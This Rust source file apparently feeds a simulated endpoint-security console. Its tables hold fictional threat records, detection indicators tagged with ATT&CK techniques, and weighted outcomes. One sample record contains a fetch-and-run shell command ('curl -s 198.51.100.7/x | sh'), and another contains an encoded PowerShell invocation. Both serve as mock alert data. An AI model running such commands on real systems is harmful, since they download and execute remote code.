//! The attacks that there are, and what can be said of them: tables.

use super::fleet::Family;

/// A kind of attack.
pub(crate) struct Attack {
    pub(crate) weight: u64,
    pub(crate) families: &'static [Family],
    /// The name of the file, with `#` for the number of the sample.
    pub(crate) name: &'static str,
    /// The folder of the file, with `{user}` for who ran it; empty for an attack without a file.
    pub(crate) folder: &'static str,
    pub(crate) classification: &'static str,
    pub(crate) classification_source: &'static str,
    pub(crate) confidence: &'static str,
    pub(crate) is_dynamic: bool,
    /// Keys of [`ENGINES`].
    pub(crate) engines: &'static [&'static str],
    /// What the console calls the type of the file.
    pub(crate) extension: (&'static str, &'static str),
    pub(crate) publisher: &'static str,
    pub(crate) originator: Option<&'static str>,
    pub(crate) arguments: Option<&'static str>,
    pub(crate) cloud_verdict: Option<&'static str>,
    /// Indices of [`INDICATORS`].
    pub(crate) indicators: &'static [usize],
    pub(crate) whitening: &'static [&'static str],
}

/// How many different files there are of each kind.
pub(crate) const SAMPLES: u64 = 40;

const WINDOWS_FILE: Attack = Attack {
    weight: 14,
    families: &[Family::Windows],
    name: "invoice_#.exe",
    folder: r"\Device\HarddiskVolume3\Users\{user}\Downloads",
    classification: "Trojan",
    classification_source: "Static",
    confidence: "malicious",
    is_dynamic: false,
    engines: &["pre_execution"],
    extension: ("EXE", "Executable"),
    publisher: "",
    originator: Some("explorer.exe"),
    arguments: None,
    cloud_verdict: Some("black"),
    indicators: &[0, 1, 2],
    whitening: &["hash", "path"],
};

const POSIX_FILE: Attack = Attack {
    weight: 12,
    families: &[Family::Linux],
    name: "kworkerd_#",
    folder: "/tmp/.cache",
    classification: "Malware",
    engines: &["sentinelone_cloud"],
    classification_source: "Cloud",
    originator: Some("bash"),
    indicators: &[3, 5],
    whitening: &["path", "hash"],
    ..WINDOWS_FILE
};

const FILELESS: Attack = Attack {
    weight: 4,
    name: "powershell.exe (interactive session)",
    folder: "",
    classification: "Exploit",
    classification_source: "Behavioral",
    is_dynamic: true,
    engines: &["exploits"],
    extension: ("", "None"),
    originator: None,
    arguments: Some("-NoProfile -EncodedCommand SQBuAHYAbwBrAGUA"),
    cloud_verdict: None,
    indicators: &[4, 6, 7, 8],
    whitening: &[],
    ..WINDOWS_FILE
};

/// All kinds of attacks.
pub(crate) static ATTACKS: &[Attack] = &[
    WINDOWS_FILE,
    Attack {
        weight: 8,
        name: "setup_toolbar_#.exe",
        classification: "PUA",
        classification_source: "Engine",
        confidence: "suspicious",
        engines: &["pre_execution_suspicious", "pup"],
        publisher: "BRIGHTBAR MEDIA, LLC",
        originator: Some("chrome.exe"),
        cloud_verdict: Some("provider_unknown"),
        indicators: &[0, 9],
        whitening: &["path", "certificate", "hash"],
        ..WINDOWS_FILE
    },
    Attack {
        weight: 5,
        name: "Unconfirmed #.crdownload",
        classification: "Downloader",
        classification_source: "Cloud",
        engines: &["sentinelone_cloud", "reputation"],
        extension: ("CRDOWNLOAD", "Unknown"),
        originator: Some("msedge.exe"),
        indicators: &[],
        ..WINDOWS_FILE
    },
    Attack {
        weight: 5,
        name: "quarterly_figures_#.docm",
        folder: r"\Device\HarddiskVolume3\Users\{user}\Documents\2023",
        classification: "Malware",
        classification_source: "Behavioral",
        is_dynamic: true,
        engines: &["data_files"],
        extension: ("DOCM", "Document"),
        originator: Some("WINWORD.EXE"),
        arguments: Some(r"/n C:\Users\Public\quarterly_figures.docm"),
        cloud_verdict: None,
        indicators: &[4, 6, 10],
        whitening: &["file_type", "path", "hash"],
        ..WINDOWS_FILE
    },
    Attack {
        weight: 4,
        name: "svc_update_#.tmp",
        folder: r"\Device\HarddiskVolume2\Windows\Temp",
        classification: "Ransomware",
        classification_source: "Behavioral",
        is_dynamic: true,
        engines: &["executables", "lateral_movement"],
        extension: ("TMP", "Misc"),
        originator: Some("services.exe"),
        arguments: Some("--all --silent"),
        indicators: &[2, 4, 7, 10, 11],
        ..WINDOWS_FILE
    },
    Attack {
        weight: 3,
        name: "stealer#.txt",
        folder: r"\Device\HarddiskVolume3\ProgramData\Intel\Logs",
        classification: "Infostealer",
        confidence: "n/a",
        engines: &["user_blacklist"],
        extension: ("TXT", "Misc"),
        originator: None,
        cloud_verdict: None,
        indicators: &[],
        ..WINDOWS_FILE
    },
    FILELESS,
    Attack {
        weight: 1,
        name: "",
        classification: "Manual",
        engines: &["manual"],
        confidence: "suspicious",
        arguments: Some(""),
        indicators: &[6],
        ..FILELESS
    },
    Attack {
        weight: 2,
        families: &[Family::Linux, Family::MacOs],
        name: "bash (interactive session)",
        arguments: Some("-c curl -s 198.51.100.7/x | sh"),
        engines: &["remote_shell"],
        indicators: &[5, 8],
        ..FILELESS
    },
    POSIX_FILE,
    Attack {
        weight: 5,
        name: "libnss_#.so",
        folder: "/usr/lib/x86_64-linux-gnu",
        classification: "Trojan",
        engines: &["executables"],
        classification_source: "Behavioral",
        is_dynamic: true,
        originator: Some("python3.11"),
        arguments: Some("/usr/bin/python3.11 -m http.server 8088"),
        cloud_verdict: None,
        indicators: &[3, 5, 11],
        ..POSIX_FILE
    },
    Attack {
        weight: 3,
        name: "xmr-runner-#",
        folder: "/var/lib/containers/work",
        classification: "Malware",
        engines: &["application_control", "drift_detection"],
        classification_source: "Engine",
        confidence: "suspicious",
        cloud_verdict: Some("provider_unknown"),
        indicators: &[3],
        ..POSIX_FILE
    },
    Attack {
        families: &[Family::MacOs],
        name: "Flash Installer #.dmg",
        folder: "/Users/{user}/Downloads",
        classification: "PUA",
        engines: &["reputation"],
        originator: None,
        indicators: &[],
        ..POSIX_FILE
    },
    Attack {
        weight: 6,
        families: &[Family::MacOs],
        name: "com.sync.helper.#",
        folder: "/Users/{user}/Library/LaunchAgents",
        classification: "Infostealer",
        engines: &["pre_execution", "sentinelone_cloud"],
        is_dynamic: true,
        originator: Some("launchd"),
        arguments: Some("--daemon --interval 60"),
        indicators: &[7, 11],
        ..POSIX_FILE
    },
];

/// Key, title, and the title in the deprecated list.
pub(crate) static ENGINES: &[(&str, &str, &str)] = &[
    ("application_control", "Application Control", "Application Control"),
    ("data_files", "Documents, Scripts", "Documents, Scripts"),
    ("drift_detection", "Drift Detection", "Drift Detection"),
    ("executables", "Behavioral AI", "DBT - Executables"),
    ("exploits", "Anti Exploitation / Fileless", "Anti Exploitation / Fileless"),
    ("lateral_movement", "Lateral Movement", "Lateral Movement"),
    ("manual", "Manual", "Manual"),
    ("pre_execution", "On-Write Static AI", "On-Write DFI"),
    ("pre_execution_suspicious", "On-Write Static AI - Suspicious", "On-Write DFI - Suspicious"),
    ("pup", "Potentially Unwanted Applications", "Potentially Unwanted Applications"),
    ("remote_shell", "Remote Shell", "Remote Shell"),
    ("reputation", "SentinelOne Cloud", "Reputation"),
    ("sentinelone_cloud", "SentinelOne Cloud", "SentinelOne Cloud"),
    ("user_blacklist", "User-Defined Blocklist", "User-Defined Blocklist"),
];

/// What was noticed: its number, category, description and tactics with their techniques.
pub(crate) struct Indicator {
    pub(crate) id: i64,
    pub(crate) category: &'static str,
    pub(crate) description: &'static str,
    pub(crate) tactics: &'static [(&'static str, &'static [&'static str])],
}

const fn indicator(
    id: i64,
    category: &'static str,
    description: &'static str,
    tactics: &'static [(&'static str, &'static [&'static str])],
) -> Indicator {
    Indicator { id, category, description, tactics }
}

pub(crate) static INDICATORS: &[Indicator] = &[
    indicator(12, "General", "The file holds sections of unusually high entropy.", &[]),
    indicator(31, "Packer", "The code is packed by a tool that is seldom used for good.", &[]),
    indicator(
        64,
        "Evasion",
        "The program looks for signs that it runs in a sandbox.",
        &[("Defense Evasion", &["T1497.001", "T1497.003"])],
    ),
    indicator(88, "Malware", "The file resembles known members of a family.", &[]),
    indicator(
        140,
        "Injection",
        "A thread was started in the memory of another process.",
        &[("Defense Evasion", &["T1055.003"]), ("Privilege Escalation", &["T1055.003"])],
    ),
    indicator(
        172,
        "Post Exploitation",
        "A shell reads its commands from a network connection.",
        &[("Execution", &["T1059.004"]), ("Command and Control", &["T1071.001"])],
    ),
    indicator(
        205,
        "Exploitation",
        "A script interpreter ran an encoded command.",
        &[("Execution", &["T1059.001", "T1027"])],
    ),
    indicator(
        233,
        "Persistence",
        "The program arranged to be started again.",
        &[("Persistence", &["T1547.001", "T1543"])],
    ),
    indicator(
        251,
        "Discovery",
        "Accounts, services and shares were listed one after another.",
        &[("System Service Discovery", &[]), ("Discovery", &["T1007", "T1135"])],
    ),
    indicator(290, "Hiding/Stealthiness", "The uninstaller leaves the program behind.", &[]),
    indicator(
        318,
        "Ransomware",
        "Copies of earlier file versions were deleted.",
        &[("Impact", &["T1490", "T1486"])],
    ),
    indicator(
        346,
        "Infostealer",
        "The credential store of a browser was read.",
        &[("Credential Access", &["T1555.003"]), ("Collection", &["T1005"])],
    ),
];

/// What started the detection: value, its description, weight and whether a person did it.
pub(crate) static INITIATORS: &[(&str, &str, u64, bool)] = &[
    ("agent_policy", "Agent Policy", 70, false),
    ("full_disk_scan", "Full Disk Scan", 8, false),
    ("on_demand_scan", "On-Demand Scan", 4, false),
    ("star_active", "Custom Rule", 6, false),
    ("star_manual", "Custom Rule (manual)", 2, true),
    ("dv_command", "Deep Visibility Command", 2, true),
    ("console_api", "Console API", 3, true),
    ("cloud_detection", "Cloud Detection", 3, false),
    ("multiple", "Multiple", 2, false),
];

/// What became of a threat.
pub(crate) struct Outcome {
    pub(crate) weight: u64,
    pub(crate) incident: &'static str,
    pub(crate) verdict: &'static str,
    pub(crate) mitigation: &'static str,
    pub(crate) actions: &'static [&'static str],
}

const fn outcome(
    weight: u64,
    incident: &'static str,
    verdict: &'static str,
    mitigation: &'static str,
    actions: &'static [&'static str],
) -> Outcome {
    Outcome { weight, incident, verdict, mitigation, actions }
}

pub(crate) static OUTCOMES: &[Outcome] = &[
    outcome(18, "unresolved", "undefined", "not_mitigated", &[]),
    outcome(22, "unresolved", "undefined", "mitigated", &["kill", "quarantine"]),
    outcome(5, "in_progress", "suspicious", "not_mitigated", &["kill"]),
    outcome(8, "in_progress", "true_positive", "mitigated", &["kill", "quarantine"]),
    outcome(24, "resolved", "true_positive", "mitigated", &["kill", "quarantine", "remediate"]),
    outcome(
        6,
        "resolved",
        "true_positive",
        "mitigated",
        &["kill", "quarantine", "remediate", "rollback"],
    ),
    outcome(10, "resolved", "false_positive", "marked_as_benign", &["quarantine", "unquarantine"]),
    outcome(4, "resolved", "false_positive", "marked_as_benign", &[]),
    outcome(3, "resolved", "suspicious", "mitigated", &["quarantine"]),
];

/// How the console writes an enum value in words.
pub(crate) fn in_words(value: &str) -> String {
    let mut words = value.replace('_', " ");
    if let Some(first) = words.get_mut(..1) {
        first.make_ascii_uppercase();
    }
    words
}
